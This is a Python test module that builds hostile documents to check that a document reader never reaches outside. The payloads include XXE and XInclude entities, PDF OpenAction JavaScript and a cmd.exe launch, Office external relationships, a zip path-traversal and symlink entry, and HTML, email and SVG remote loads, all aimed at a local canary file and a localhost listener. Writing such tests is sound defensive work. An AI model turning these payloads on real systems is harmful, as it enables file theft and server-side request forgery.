"""Documents that reach out: for a file of the machine, or for another machine."""

import io
import socket
import threading
import zipfile
from collections.abc import Callable, Iterator, Sequence
from contextlib import contextmanager
from pathlib import Path
from typing import NamedTuple

from core.domain.codec import encode
from core.domain.document import Source
from core.domain.errors import VouchError
from core.domain.page import Page
from core.ports import Limits, PageImage, silent
from core.work.pool import ReaderPool
from tests.core.reading.documents import unzipped, word, xlsx
from tests.trust.bombs.pdfs import PAGES, document, page, stream
from tests.trust.mutations import READER

SECRET = "canary 7351 of the house"


class Targets(NamedTuple):
    """What a document may try to reach."""

    file: str
    """a URL"""
    door: str
    """a URL of this machine, where somebody listens"""


def _entity(told: str) -> Callable[[Targets], bytes]:
    return lambda to: f'<?xml version="1.0"?><!DOCTYPE x [{told.format(*to)}]><x>&a;</x>'.encode()


def _invoice(told: str) -> Callable[[Targets], bytes]:
    """An e-invoice that takes something in."""
    name = "urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"
    return lambda to: (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{to.file}">]><Invoice xmlns="{name}" '
        f'xmlns:xi="http://www.w3.org/2001/XInclude">{told.format(*to)}</Invoice>'
    ).encode()


def _page_of(told: str) -> Callable[[Targets], bytes]:
    return lambda to: f"<!doctype html><html><head>{told.format(*to)}</head><body>Total 1.00</body></html>".encode()


def _action(told: str) -> Callable[[Targets], bytes]:
    """A PDF that does something when it is opened."""
    return lambda to: document(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction%s>>" % told.format(*to).encode(), PAGES, page(), stream(b"0 0 m")
    )


def _outside_stream(to: Targets) -> bytes:
    """A PDF whose page is drawn by another file."""
    outside = f"/F({to.file.removeprefix('file://')})/FFilter/FlateDecode".encode()
    return document(b"<</Type/Catalog/Pages 2 0 R>>", PAGES, page(), stream(b"", outside))


def _office(made: bytes, member: str, told: str) -> Callable[[Targets], bytes]:
    """An office file of which a member is this."""

    def make(to: Targets) -> bytes:
        members = unzipped(made) | {member: told.format(*to).encode()}
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as whole:
            for name, body in members.items():
                whole.writestr(name, body)
        return out.getvalue()

    return make


RELATION = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
    'Target="{{{target}}}" TargetMode="External"/></Relationships>'
)
ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "{0}">]><x>&a;</x>'


def _link_out(to: Targets) -> bytes:
    """An archive with a link to the file, and a member of its path."""
    out, path = io.BytesIO(), to.file.removeprefix("file://")
    with zipfile.ZipFile(out, "w") as whole:
        link = zipfile.ZipInfo("link.txt")
        link.external_attr = 0o120777 << 16
        whole.writestr(link, path)
        whole.writestr(f"../../../..{path}", "over it")
    return out.getvalue()


def _mail(to: Targets) -> bytes:
    head = 'From: a@b.example\nSubject: x\nMIME-Version: 1.0\nContent-Type: text/html\n\n<html><img src="{1}/a.png">'
    body = '<link rel="stylesheet" href="{0}"><iframe src="{0}"></iframe><p>Total 1.00</p></html>'
    return (head + body).format(*to).encode()


def _svg(to: Targets) -> bytes:
    return (
        f'<svg xmlns="http://www.w3.org/2000/svg"><image href="{to.file}"/><image href="{to.door}/a"/></svg>'.encode()
    )


REACHES: Sequence[Callable[[Targets], bytes]] = (
    _entity('<!ENTITY a SYSTEM "{0}">'),
    _entity('<!ENTITY a SYSTEM "{1}/a">'),
    _entity('<!ENTITY % b SYSTEM "{1}/b.dtd"> %b;<!ENTITY a "">'),
    _entity('<!ENTITY a PUBLIC "x" "{1}/c">'),
    _invoice("<ID>&a;</ID>"),
    _invoice('<ID><xi:include parse="text" href="{0}"/></ID>'),
    _invoice('<?xml-stylesheet type="text/xsl" href="{1}/d.xsl"?><ID>1</ID>'),
    _page_of('<link rel="stylesheet" href="{1}/e.css"><script src="{1}/f.js"></script>'),
    _page_of('<meta http-equiv="refresh" content="0;url={1}/g"><base href="{1}"><img src="h.png">'),
    _page_of('<iframe src="{0}"></iframe><object data="{0}"></object>'),
    _action("<</S/JavaScript/JS(app.launchURL\\('{1}/i'\\);this.submitForm\\('{1}/j'\\))>>"),
    _action("<</S/Launch/F({0})/Win<</F(cmd.exe)/P(/c start {1})>>>>"),
    _action("<</S/URI/URI({1}/k)>>"),
    _action("<</S/SubmitForm/F({1}/l)/Flags 4>>"),
    _action("<</S/GoToR/F({0})/D[0/Fit]>>"),
    _action("<</S/ImportData/F({0})>>"),
    _outside_stream,
    _office(word(), "word/_rels/settings.xml.rels", RELATION.format(kind="attachedTemplate", target="1")),
    _office(word(), "word/_rels/document.xml.rels", RELATION.format(kind="image", target="0")),
    _office(word(), "word/document.xml", ENTITY),
    _office(xlsx(), "xl/_rels/workbook.xml.rels", RELATION.format(kind="externalLink", target="1")),
    _office(xlsx(), "xl/sharedStrings.xml", ENTITY),
    _office(xlsx(), "xl/worksheets/sheet1.xml", ENTITY),
    _link_out,
    _mail,
    _svg,
)


@contextmanager
def _door() -> Iterator[tuple[int, list[str]]]:
    """Somebody who listens, and who came."""
    came: list[str] = []
    with socket.create_server(("127.0.0.1", 0)) as listening:

        def wait() -> None:
            while True:
                try:
                    visitor, place = listening.accept()
                except OSError:  # closed: nobody comes any more
                    return
                visitor.close()
                came.append(str(place))

        waiting = threading.Thread(target=wait, daemon=True)
        waiting.start()
        yield listening.getsockname()[1], came
        listening.shutdown(socket.SHUT_RDWR)
    waiting.join(5)


def stay_inside(numbers: range, folder: Path) -> Iterator[str]:
    """Whether what a document reached for came to somebody, or into what is said of it."""
    secret = folder / "secret.txt"
    secret.write_text(SECRET, encoding="utf-8")
    with _door() as (port, came), ReaderPool(READER, most=1) as pool:
        targets = Targets(f"file://{secret}", f"http://127.0.0.1:{port}")
        for number in numbers:
            said = _said(pool, REACHES[number](targets))
            kept = secret.read_text(encoding="utf-8") == SECRET
            yield "" if SECRET.encode() not in said and not came and kept else f"reached out: {came}"


def _said(pool: ReaderPool, data: bytes) -> bytes:
    """All that comes out of a reader."""
    said: list[bytes] = []

    def sink(page: Page, image: PageImage | None) -> None:
        said.append(" ".join(word.text for word in page.words).encode() + (image.data if image else b""))

    try:
        told = pool.read(Source("reaching", "00", data), Limits(), sink, silent)
    except VouchError as refusal:
        return "".join(refusal.facts.values()).encode()
    return b"".join((*said, *(encode(one) for one in told.readings), *(part.data for part in told.parts)))
